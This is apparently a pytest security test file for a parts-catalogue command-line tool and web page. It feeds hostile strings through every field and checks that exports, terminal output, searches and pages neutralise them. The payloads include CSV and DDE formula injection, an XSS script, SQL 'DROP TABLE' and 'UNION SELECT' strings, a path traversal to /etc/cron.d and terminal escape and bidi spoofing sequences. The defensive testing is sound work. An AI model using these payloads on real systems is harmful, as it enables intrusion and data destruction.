"""Text that means harm, in every field that takes a text: it is kept as it came, and does nothing wherever it comes out."""

from __future__ import annotations

import csv
import json
import re
import sqlite3
from contextlib import closing
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest

from partsbin.page.app import create
from tests.command import partsbin
from tests.hardship.commands import state

HARM = {
    "formula": "=HYPERLINK(\"http://x/?\"&A1,\"ok\")",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "escape": "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b1m",
    "lines": "tin\nP-0001  forged line\r\n\x0b\x0c\x85\u2028end",
    "turned": "\u202egnp.exe\u2066\u200f\u200b",
    "markup": "</td></table><script>alert(1)</script><img src=x onerror=alert(1)>\"'&amp;<!--",
    "statement": "'; DROP TABLE part; --\" OR 1=1 /*",
    "path": "../../../etc/cron.d/harm",
    "template": "{{7*7}}{% raw %}${7*7}%s%(x)s{0}",
}  # fmt: skip
"""One text of each kind."""

FORGING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]")
"""What must not reach a terminal: all controls but the end of a line, and signs that turn or hide what is written."""

RUN = re.compile(r"[=+\-@\t\r]")
"""What a spreadsheet takes for the beginning of a formula."""

LOOKS = (
    ("show", "P-1"), ("show", "P-2"), ("show", "D-7"), ("find", "capacitor", "22n", "-p", "coupling", "-w", "rail=200"),
    ("search", "22n"), ("search", "harm"), ("donor", "list"), ("donor", "todo"), ("donor", "worth", "D-7"),
    ("job", "list"), ("job", "show", "J-1"), ("job", "sheet", "J-1"), ("plan", "J-1"), ("trace", "P-1"), ("recall", "D-7"),
    ("report", "stock"), ("report", "slow"), ("report", "unknown"), ("report", "fitted"), ("report", "usage"),
    ("report", "donors"), ("supplier", "list"), ("rule", "list"), ("reorder",), ("reorder", "--job", "J-1"), ("verify",),
)  # fmt: skip
"""Commands that print what was written."""


def _fill(folder: Path, harm: str) -> Path:
    """Put a text into every field that takes one; return the catalogue."""
    db = folder / "shelf.sqlite"
    lists = {
        "parts.json": [
            {"family": "capacitor", "description": "22n 400V polyester", "count": 3, "condition": "salvaged", "title": harm,
             "note": harm, "marking": harm, "maker": harm, "place": harm, "donor": "D-007", "donor_lineup": harm,
             "date_code": harm, "lead_style": harm},
            {"family": "capacitor", "description": "22n 630V polypropylene", "count": 2, "condition": "new", "place": harm},
        ],
        "offers.json": [{"article": harm, "description": f"47n 630V polypropylene {harm}", "price": "0.50", "note": harm}],
    }  # fmt: skip
    for name, rows in lists.items():
        (folder / name).write_text(json.dumps(rows), "utf-8")
    with (folder / "came.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["description", harm, "note"], ["33n 400V polyester", harm, harm]])
    for words in (
        ("import", str(folder / "parts.json")),
        ("import", str(folder / "came.csv")),
        ("import", str(folder / "offers.json"), "--as", "offers", f"--supplier={harm}"),
        ("shelve", "10n 400V polyester", f"--title={harm}", f"--place={harm}", f"--note={harm}", "--condition", "new"),
        ("donor", "add", f"--note={harm}", f"--came={harm}", "--", harm),
        ("job", "open", f"--reference={harm}", "-w", "rail=200", "--", harm),
        ("job", "need", "J-1", "capacitor", "22n 400V", "-p", "coupling", f"-d={harm}"),
        ("job", "need", "J-1", "capacitor", "47n 400V", "-p", "coupling", f"-d=C2 {harm}"),
        ("job", "note", "J-1", "--", harm),
        ("fit", "P-2", "-j", "J-1", "--for", "1", f"--change={harm}", f"--why={harm}"),
        ("move", "P-1", f"a {harm}", f"--why={harm}"),
        ("rule", "add", "9", "capacitor", "47n 630V", "-p", "coupling", "-w", "rail=200"),
    ):
        ran = partsbin(*words, db=db)
        assert ran.code == 0, (words, ran.err)
        assert not FORGING.search(ran.out + ran.err), words
    return db


@pytest.fixture(scope="module", params=HARM.values(), ids=HARM)
def harm(request: pytest.FixtureRequest) -> str:
    """One of the texts."""
    return str(request.param)


@pytest.fixture(scope="module")
def filled(harm: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a catalogue that is full of it."""
    folder = tmp_path_factory.mktemp("filled")
    _fill(folder, harm)
    return folder


@pytest.fixture(scope="module")
def shelf(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One that is searched."""
    return _fill(tmp_path_factory.mktemp("shelf"), HARM["statement"])


@pytest.fixture
def db(filled: Path, tmp_path: Path) -> Path:
    """A copy of that catalogue."""
    with (
        closing(sqlite3.connect(filled / "shelf.sqlite")) as old,
        closing(sqlite3.connect(tmp_path / "s.sqlite")) as new,
    ):
        old.backup(new)
    return tmp_path / "s.sqlite"


def test_the_text_is_kept_as_it_came(harm: str, db: Path) -> None:
    """It is made harmless where it goes out, not changed where it comes in; else nothing here would be tried at all."""
    with closing(sqlite3.connect(db)) as connection:
        titles = {row[0].strip() for row in connection.execute("SELECT title FROM part")}
        jobs = {row[0].strip() for row in connection.execute("SELECT what FROM job")}
    assert harm.strip() in titles
    assert harm.strip() in jobs


# ---- the terminal


def test_nothing_forges_or_moves_what_a_terminal_shows(db: Path) -> None:
    """Neither in answers nor in faults; a line of ours begins with nobody else's words."""
    for words in LOOKS:
        ran = partsbin(*words, db=db)
        assert ran.code in (0, 1), (words, ran.err)
        assert not FORGING.search(ran.out + ran.err), words
        assert not [line for line in ran.out.splitlines() if line.startswith("P-0001  forged")], words


@pytest.mark.parametrize(
    "words",
    [
        ("find", "{}", "-p", "coupling"), ("find", "capacitor", "-p", "{}"), ("find", "capacitor", "-p", "coupling", "-w", "{}"),
        ("find", "capacitor", "-p", "coupling", "-w", "rail={}"), ("read", "--", "{}"), ("show", "--", "{}"), ("search", "--", "{}"),
        ("import", "--", "{}"), ("import", "parts.json", "--as", "{}"),
        ("import", "parts.json", "--column", "{}=note"),
        ("restore", "--", "{}"), ("export", "--", "{}"), ("shelve", "--", "{}"), ("shelve", "22n", "--condition", "{}"),
        ("job", "show", "--", "{}"), ("fit", "P-1", "-j", "{}"), ("report", "--", "{}"),
        ("calc", "--", "{}"), ("label", "--place", "{}"),
        ("label", "--in", "{}"), ("label", "--donor", "{}"), ("strip", "7", "--", "{}"),
        ("count", "--", "{}", "P-1=3"), ("--db", "{}", "show", "P-1"),
    ],
    ids=lambda words: " ".join(words[:2]),
)  # fmt: skip
def test_a_fault_quotes_no_signs_that_do_something(words: tuple[str, ...], harm: str, db: Path, tmp_path: Path) -> None:
    """What was typed, or the name of a file, is quoted in one line of plain signs."""
    (tmp_path / "parts.json").write_text('[{"description": "22n"}]', "utf-8")
    typed = [harm if word == "{}" else word.replace("{}", harm) for word in words]
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(tmp_path)
        ran = partsbin(*typed, db=db)
    assert not FORGING.search(ran.out + ran.err)


def test_a_file_of_a_harmful_name_is_taken_in_quietly(harm: str, tmp_path: Path) -> None:
    """Its name is printed, kept and printed again."""
    name = f"{harm}.csv".replace("/", " ")
    (tmp_path / name).write_text("family,description,count\ncapacitor,22n 400V film,1\ncapacitor,22n,x\n", "utf-8")
    db = tmp_path / "s.sqlite"
    shown = [partsbin("import", str(tmp_path / name), "--keep-good", db=db), partsbin("show", "P-1", db=db)]
    shown += [
        partsbin("backup", str(tmp_path / f"{name}.sqlite"), db=db),
        partsbin("export", str(tmp_path / f"{name}.csv"), db=db),
    ]
    shown += [partsbin("export", str(tmp_path / "z.csv"), "--as-came", name, db=db)]
    for ran in shown:
        assert not FORGING.search(ran.out + ran.err)
    assert shown[0].code == 1
    assert [ran.code for ran in shown[1:]] == [0, 0, 0, 0]


# ---- spreadsheets


def _cells(file: Path) -> list[str]:
    if file.suffix == ".csv":
        with file.open(encoding="utf-8", newline="") as lines:
            return [cell for row in csv.reader(lines) for cell in row]
    book = openpyxl.load_workbook(file)
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "b"}
    return [cell.value for cell in cells if isinstance(cell.value, str)]


def _written(db: Path, folder: Path, kind: str) -> list[Path]:
    """Everything that writes rows of cells."""
    out = folder / "out"
    out.mkdir()
    for words in (
        ("export", str(out / f"all.{kind}")),
        ("export", str(out / f"came.{kind}"), "--as-came", "came.csv"),
        *(("report", name, f"--{kind}", str(out / f"{name}.{kind}"))
          for name in ("stock", "slow", "unknown", "fitted", "thin", "usage", "donors")),
        *((("reorder", "--folder", str(out / "orders")),) if kind == "csv" else ()),
    ):  # fmt: skip
        ran = partsbin(*words, db=db)
        assert ran.code in (0, 1), (words, ran.err)
    return [*out.rglob(f"*.{kind}")]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_no_cell_that_is_written_is_a_formula(kind: str, db: Path, tmp_path: Path) -> None:
    """Exports, reports and orders; a number of ours may begin with its sign."""
    files = _written(db, tmp_path, kind)
    assert len(files) >= 9
    for file in files:
        cells = [cell for cell in _cells(file) if RUN.match(cell)]
        assert [cell for cell in cells if not re.fullmatch(r"-?[0-9.]+(e-?[0-9]+)?", cell)] == [], file.name


def test_what_was_exported_comes_back_as_it_was(harm: str, db: Path, tmp_path: Path) -> None:
    """The apostrophe that a spreadsheet needs is taken off again."""
    for kind in (
        ("csv", "xlsx", "json") if "\x1b" not in harm else ("xlsx", "json")
    ):  # a CSV full of controls is no text
        again = tmp_path / f"again-{kind}.sqlite"
        assert partsbin("export", str(tmp_path / f"all.{kind}"), db=db).code == 0
        assert partsbin("import", str(tmp_path / f"all.{kind}"), db=again).code == 0
        with closing(sqlite3.connect(again)) as connection:
            kept = {row[0] for row in connection.execute("SELECT title FROM part")}
        assert harm.strip() in {title.strip() for title in kept}, kind


# ---- names of files


def _beside(folder: Path) -> set[str]:
    return {str(file) for file in folder.rglob("*") if "orders" not in file.parts and "s.sqlite" not in file.name}


def test_orders_stay_in_their_folder(db: Path, tmp_path: Path) -> None:
    """A supplier's name is no path: one file, beside nothing else."""
    before = _beside(tmp_path)
    assert partsbin("reorder", "--folder", str(tmp_path / "orders"), db=db).code == 0
    made = [*(tmp_path / "orders").rglob("*")]
    assert [file.is_file() for file in made] == [True]
    assert re.fullmatch(r"order-[\w-]+\.csv", made[0].name)
    assert _beside(tmp_path) == before


# ---- searches


@pytest.mark.parametrize(
    "asked",
    [
        *HARM.values(), '"', "'", "*", "a* OR b*", "NEAR(a b)", "title:22n", "-22n", "^22n", "(22n", "22n)", "22n AND", "NOT", "%", "_",
        "\\", "\0", "22n' OR '1'='1", "; ATTACH 'x' AS y", "{title} : 22n", "a + b", "22n UNION SELECT 1", '""""', "''''", "[[", "]]",
    ],
)  # fmt: skip
def test_a_search_is_words_and_nothing_else(asked: str, shelf: Path) -> None:
    """The syntax of databases means nothing: found or not, and the catalogue is as before."""
    before = state(shelf)
    ran = partsbin("search", "--json", "--", asked, db=shelf)
    assert ran.code in (0, 1, 2)
    assert ran.code != 2 or ran.err.startswith("partsbin: ")
    assert state(shelf) == before
    assert partsbin("search", "22n", db=shelf).code == 0


# ---- pages


class _Tags(HTMLParser):
    """The tags of a page, and what they carry."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag."""
        self.tags.append((tag, dict(attrs)))


def _tags(page: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = _Tags()
    reader.feed(page)
    reader.close()
    return reader.tags


@pytest.mark.parametrize(
    "words",
    [("report", name) for name in ("stock", "slow", "unknown", "fitted", "thin", "usage", "donors")]
    + [("job", "sheet", "J-1")],
    ids=lambda words: words[1],
)
def test_a_page_holds_no_tag_of_somebody_elses(words: tuple[str, ...], db: Path, tmp_path: Path) -> None:
    """The same tags as a page of harmless text has, no script, nothing that is fetched or acts."""
    page = tmp_path / "page.html"
    assert partsbin(*words, "--html", str(page), db=db).code == 0
    for tag, carried in _tags(page.read_text("utf-8")):
        assert tag not in ("script", "img", "iframe", "object", "embed", "form", "base")
        assert not [name for name in carried if name.startswith("on") or name in ("src", "formaction")]
        assert (carried.get("href") or "#").startswith(("#", "https:", "data:"))


def test_the_bench_page_holds_no_tag_of_somebody_elses(db: Path) -> None:
    """Where a part of a harmful title is found."""
    from starlette.testclient import TestClient

    from partsbin.store.engine import open_store

    engine = open_store(db)
    client = TestClient(create(engine), base_url="http://127.0.0.1")
    answer = client.get(
        "/find", params={"family": "capacitor", "text": "22n", "position": "coupling", "with": "rail=200"}
    )
    tags = _tags(answer.text)
    engine.dispose()
    assert len(tags) > 10
    for tag, carried in tags:
        assert not (tag == "script" and "src" not in carried)
        assert not [name for name in carried if name.startswith("on")]
